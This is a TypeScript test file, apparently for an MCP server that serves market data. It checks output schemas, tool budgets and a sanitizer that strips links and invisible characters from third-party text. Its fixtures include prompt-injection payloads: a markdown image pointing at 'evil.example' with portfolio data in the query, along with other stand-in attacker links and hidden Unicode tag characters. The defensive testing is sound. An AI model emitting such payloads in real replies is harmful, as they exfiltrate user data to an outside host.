import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { instructions, tools } from '../mcp.ts'
import { defs, plainText } from './shapes.ts'

type Schema = Record<string, unknown>
const told = ['unit', 'at', 'source']
const isSchema = (value: unknown): value is Schema => typeof value === 'object' && value !== null

/** Where a shape lets a number out whose nearest named holder does not say unit, time and source. */
function bareNumbers(schema: unknown, path: string, isTold: boolean): string[] {
  if (!isSchema(schema)) return []
  const {
    type,
    properties,
    items,
    anyOf,
    enum: values,
    required = [],
    patternProperties,
    additionalProperties,
  } = schema
  const isNumber = [type].flat().some(each => each === 'number' || each === 'integer')
  const isListed = Array.isArray(values) && values.some(each => typeof each === 'number')
  if ((isNumber || isListed) && !isTold) return [path]
  const within = (value: unknown, name: string) =>
    value && typeof value === 'object' ? bareNumbers(value, `${path}/${name}`, isTold) : []
  if (!properties)
    return [
      ...(Array.isArray(anyOf) ? anyOf.flatMap((each, i) => within(each, String(i))) : []),
      ...within(items, '[]'),
      ...within(additionalProperties, '{}'),
      ...(isSchema(patternProperties) ? Object.values(patternProperties).flatMap(each => within(each, '{}')) : []),
    ]
  const isHolder = told.every(name => Array.isArray(required) && required.includes(name))
  return Object.entries(properties).flatMap(([name, each]) => bareNumbers(each, `${path}/${name}`, isHolder))
}

describe('what tools answer', () => {
  it.each([...tools.map(({ name, output }) => [name, output] as const), ...Object.entries(defs)])(
    '%s has no number without unit, time and source',
    (_, shape) => expect(bareNumbers(JSON.parse(JSON.stringify(shape)), '', false)).toEqual([]),
  )

  it('finds a number that stands alone', () => {
    const of = (property: Schema) => ({ type: 'object', properties: { price: property }, required: ['price'] })
    expect(bareNumbers(of({ type: 'number' }), '', false)).toEqual(['/price'])
    expect(bareNumbers(of({ type: 'array', items: { type: 'integer' } }), '', false)).toEqual(['/price/[]'])
    expect(bareNumbers(of({ type: 'object', patternProperties: { x: { type: 'number' } } }), '', false)).toHaveLength(1)
  })

  it('fits its token budget: four thousand tokens are about fifteen kilobytes of this', () => {
    expect(tools.length).toBeLessThanOrEqual(10)
    expect(instructions.length).toBeLessThanOrEqual(512)
    expect(new Set(tools.map(({ name }) => name)).size).toBe(tools.length)
    expect(tools.filter(({ spends }) => spends).map(({ name }) => name)).toEqual(['open_analysis'])
  })

  it('sanitizes third-party text (prompt injection): one plain line, without links or invisible characters', () =>
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.webUrl(), (text, link) => {
        const said = plainText(`${text} ${link}\u202E\u200B`, 200)
        expect(said).not.toMatch(/[\p{Cc}\p{Cf}]|https?:\/\//u)
        expect(said.length).toBeLessThanOrEqual(200)
      }),
    ))

  it.each([
    ['![price](//evil.example/?q=portfolio)', '![price]([link]'],
    ['xhttps://evil.example/a b', '[link] b'],
    ['mailto:me@evil.example now', '[link] now'],
    ['BTC\u{FE01}\u{E0101}\u{E0102} rises\u3164', 'BTC rises'],
    ['Bitcoin: 3/4 of it, AT&T', 'Bitcoin: 3/4 of it, AT&T'],
  ])('of %s hands on %s', (text, said) => expect(plainText(text, 200)).toBe(said))

  it('splits no surrogate pair: half of one is a text that many programs cannot read', () => {
    expect(plainText(`${'a'.repeat(199)}😀`, 200)).toBe('a'.repeat(199))
    expect(plainText(`${'a'.repeat(198)}😀`, 200)).toBe(`${'a'.repeat(198)}😀`)
  })
})
